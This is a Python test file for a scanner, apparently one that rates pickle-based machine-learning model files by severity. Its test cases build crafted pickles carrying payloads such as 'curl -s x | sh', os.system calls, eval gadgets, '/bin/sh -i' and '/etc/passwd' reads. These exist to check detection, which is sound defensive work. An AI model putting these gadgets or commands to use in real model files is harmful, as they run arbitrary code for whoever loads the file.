"""Calls of names that are harmless to mention, each with a benign twin; what is judged by its arguments, its state or its result."""

from __future__ import annotations

import collections.abc
import functools
import logging
import operator
import pickle
from typing import Any

import pytest

from tests.cases import each
from tests.engines.modelfiles.building import Calls, dumps, judged, scan, stack_global, text
from veritensor_ray.core.detection import Hit
from veritensor_ray.engines.modelfiles.modelfile_rules import RULES
from veritensor_ray.engines.modelfiles.naming.telling_text import telling

SEVERITIES = {rule.id: rule.severity for rule in RULES}
RANK = ("info", "low", "medium", "high", "critical")


def verdict(data: bytes) -> tuple[str, str]:
    """The worst severity of the hits (`none` without any) and the verdict on the file."""
    worst = max((RANK.index(hit.severity or SEVERITIES[hit.rule]) for hit in scan(data) if isinstance(hit, Hit)), default=-1)
    passed = judged(data)
    assert passed is not None
    return (RANK[worst] if worst >= 0 else "none"), passed.verdict


def called(module: str, name: str, args: bytes, code: bytes = b"R") -> bytes:
    return b"\x80\x04" + stack_global(module, name) + args + code + b"."


def one(value: str) -> bytes:
    return text(value) + b"\x85"


def attribute(module: str, name: str, member: str, args: bytes) -> bytes:
    """Call a method by `getattr`."""
    found = stack_global("builtins", "getattr") + stack_global(module, name) + text(member) + b"\x86R"
    return b"\x80\x04" + found + args + b"R."


SEQUENTIAL = ("torch.nn.modules.container", "Sequential")


@each(
    ("data", "expected"),
    [
        # A class of a trusted package, with and without a text that says what it is for.
        pytest.param(called("sentence_transformers.SentenceTransformer", "SentenceTransformer", one("https://example.org/x")), ("medium", "unknown"), id="address"),
        pytest.param(called("transformers.models.bert.tokenization_bert", "BertTokenizer", one("/etc/passwd")), ("medium", "unknown"), id="path"),
        pytest.param(called("transformers.models.bert.tokenization_bert", "BertTokenizer", one("../../x.txt"), b"\x81"), ("medium", "unknown"), id="path to __new__"),
        pytest.param(called("sklearn.pipeline", "Pipeline", one("__import__('os').system('id')")), ("medium", "unknown"), id="code"),
        pytest.param(called("sklearn.pipeline", "Pipeline", one("curl -s x | sh")), ("medium", "unknown"), id="command"),
        pytest.param(called("transformers.trainer_utils", "IntervalStrategy", one("steps")), ("info", "unknown"), id="a label"),
        pytest.param(called(*SEQUENTIAL, b")", b"\x81"), ("none", "inert"), id="no arguments"),
        pytest.param(called("sklearn.tree._tree", "Tree", b"K\x01K\x02\x86"), ("none", "inert"), id="numbers"),
        # What only builds a value.
        pytest.param(called("pathlib", "PosixPath", one("/etc/passwd")), ("none", "inert"), id="a path is a value"),
        pytest.param(called("_codecs", "encode", text("x") + text("latin1") + b"\x86"), ("none", "inert"), id="encoding"),
        pytest.param(called("_codecs", "encode", text("x") + text("zlib") + b"\x86"), ("info", "unknown"), id="unusual encoding"),
        pytest.param(called("numpy", "zeros", b"\x8a\x05\0\0\0\0\x10\x85"), ("info", "unknown"), id="a very large array"),
        pytest.param(called("numpy", "ones", b"J\0\0\1\0J\0\0\1\0\x86\x85"), ("info", "unknown"), id="an array of two large dimensions"),
        pytest.param(called("torch", "FloatStorage", b"\x8a\x05\0\0\0\0\x10\x85"), ("info", "unknown"), id="a very large storage"),
        pytest.param(called("builtins", "bytearray", b"\x8a\x05\0\0\0\0\x10\x85"), ("info", "unknown"), id="a very large object"),
        # The argument tuple may come from the memo, where it is lost.
        pytest.param(b"\x80\x04" + one("curl x") + b"\x940" + stack_global("sklearn.pipeline", "Pipeline") + b"h\0R.", ("info", "unknown"), id="arguments from the memo"),
        # Unknown names, with and without such a text.
        pytest.param(called("own", "Klass", one("wget example.org")), ("high", "dangerous"), id="unknown with a command"),
        pytest.param(called("own", "Klass", one("label")), ("medium", "unknown"), id="unknown with a label"),
        # Attributes.
        pytest.param(attribute("pandas.core.frame", "DataFrame", "to_pickle", b")"), ("critical", "dangerous"), id="a method that acts"),
        pytest.param(attribute("pandas.core.frame", "DataFrame", "head", b")"), ("medium", "unknown"), id="a method that is not known"),
        pytest.param(attribute("zoneinfo", "ZoneInfo", "_unpickle", text("UTC") + b"K\x01\x86"), ("none", "inert"), id="a known method"),
        pytest.param(b"\x80\x04" + stack_global("pandas.core.frame", "DataFrame.eval") + b".", ("critical", "dangerous"), id="dotted"),
        # What a getter is applied to.
        pytest.param(dumps(Calls(operator.attrgetter("a"), "x")), ("critical", "dangerous"), id="a getter that is applied"),
        pytest.param(dumps(operator.methodcaller("system", "id")), ("critical", "dangerous"), id="a method that acts, for later"),
        pytest.param(dumps(operator.attrgetter("__globals__")), ("critical", "dangerous"), id="a special attribute, for later"),
        # States.
        pytest.param(called("statsmodels.base.data", "ModelData", b")\x81}(" + text("formula") + text("y ~ __import__('os').system('id')") + text("restore_design_info") + b"\x88u", b"b"), ("high", "dangerous"), id="a formula that is code"),
        pytest.param(called("statsmodels.base.data", "ModelData", b")\x81}(" + text("xnames") + b"]u", b"b"), ("none", "inert"), id="a state without a formula"),
        pytest.param(b"\x80\x04" + stack_global("sklearn.pipeline", "Pipeline") + text("x") + text("os.system('id')") + b"s.", ("medium", "unknown"), id="items of a class"),
        # The result of a call.
        pytest.param(b"\x80\x04" + stack_global("collections", "OrderedDict") + b")R" + one("sh -c id") + b"R.", ("medium", "unknown"), id="a result that is called"),
    ],
)  # fmt: skip
def test_calls(data: bytes, expected: tuple[str, str]) -> None:
    assert verdict(data) == expected


KERAS = ("keras.src.models.sequential", "Sequential._unpickle_model")
MEMORY = stack_global("_io", "BytesIO") + b")R"


@each(
    ("data", "expected"),
    [
        # The result of a call is called, or an operator is applied: harmless with plain values only.
        pytest.param(dumps(Calls(operator.itemgetter(1), [1, 2])), ("none", "inert"), id="an item of a list"),
        pytest.param(dumps(Calls(operator.itemgetter(0), [len])), ("critical", "dangerous"), id="an item that is a function"),
        pytest.param(dumps(Calls(functools.reduce, operator.add, [1, 2])), ("none", "inert"), id="a sum"),
        pytest.param(dumps(Calls(functools.reduce, eval, ["1", "2"])), ("critical", "dangerous"), id="eval of items"),
        pytest.param(dumps(Calls(functools.reduce, operator.add, [len, 2])), ("critical", "dangerous"), id="a sum of functions"),
        pytest.param(dumps(Calls(operator.add, Calls(operator.add, "a", "b"), "c")), ("info", "unknown"), id="texts that grow"),
        pytest.param(called("builtins", "getattr", text("") + text("join") + b"\x86")[:-1] + b"](" + text("a") + text("b") + b"e\x85R.", ("none", "inert"), id="a text of others"),
        pytest.param(called("builtins", "getattr", text("") + text("format") + b"\x86")[:-1] + one("{0.__class__}") + b"R.", ("critical", "dangerous"), id="a text that reads attributes"),
        pytest.param(called("builtins", "str", b"](]](K\x01ee\x85"), ("info", "unknown"), id="a list that is printed"),
        pytest.param(called("builtins", "str", one("x")), ("none", "inert"), id="a text of a text"),
        # What libraries write.
        pytest.param(called(*KERAS, MEMORY + b"\x85"), ("info", "unknown"), id="a Keras model in bytes"),
        pytest.param(called(*KERAS, one("../m.keras")), ("medium", "unknown"), id="a Keras model at a path"),
        pytest.param(called("joblib.hashing", "_MyHash", b")"), ("none", "inert"), id="joblib's placeholder"),
        pytest.param(called("nltk.tag.sequential", "UnigramTagger", b")", b"\x81"), ("none", "inert"), id="a tagger"),
        pytest.param(called("nltk.tag.stanford", "StanfordPOSTagger", b")", b"\x81"), ("medium", "unknown"), id="a tagger that starts a program"),
        pytest.param(called("torch.distributions.constraints", "_Real", b")", b"\x81"), ("none", "inert"), id="a constraint"),
        pytest.param(called("torch.distributions.transforms", "own", b")"), ("medium", "unknown"), id="a function beside constraints"),
        pytest.param(b"\x80\x04" + stack_global("gensim.utils", "identity") + b".", ("none", "inert"), id="a function that does nothing"),
        pytest.param(b"\x80\x04" + stack_global("gensim.utils", "unpickle") + b".", ("medium", "unknown"), id="a function that unpickles"),
    ],
)  # fmt: skip
def test_results_and_libraries(data: bytes, expected: tuple[str, str]) -> None:
    assert verdict(data) == expected


@pytest.mark.parametrize(
    "value",
    [
        logging.getLogger("a.b"),
        operator.itemgetter(1, "a"),
        operator.attrgetter("weight.data"),
        functools.partial(round, ndigits=2),
        len,
        collections.abc.Iterable,
        [operator.itemgetter(0), operator.attrgetter("x")],
    ],
    ids=repr,
)  # fmt: skip
def test_what_libraries_keep_for_later_is_inert(value: Any) -> None:
    for protocol in range(2, 6):
        assert verdict(pickle.dumps(value, protocol)) == ("none", "inert")


@each(
    ("value", "looks_like"),
    [
        ("https://example.org", "an address"),
        ("10.0.0.1", "an address"),
        ("\\\\host\\share", "an address"),
        ("import os", "code"),
        ("lambda x: x", "code"),
        ("os.system('x')", "code"),
        ("().__class__", "code"),
        ("/bin/sh -i", "a command"),
        ("ls; curl x", "a command"),
        ("bash -c id", "a command"),
        ("/etc/passwd", "a path"),
        ("../x", "a path"),
        ("C:\\x", "a path"),
        ("payload.so", "a path"),
        ("a label", ""),
        ("petal length (cm)", ""),
        ("relu", ""),
        ("feature_1", ""),
        ("The class of a flower; it has 3 values", ""),
        ("y/n", ""),
        ("(?u)\\b\\w\\w+\\b", ""),
        ("2020-01-01 00:00:00", ""),
        ("<U5", ""),
        ("period[M]", ""),
    ],
)
def test_texts(value: str, looks_like: str) -> None:
    assert telling(value) == looks_like
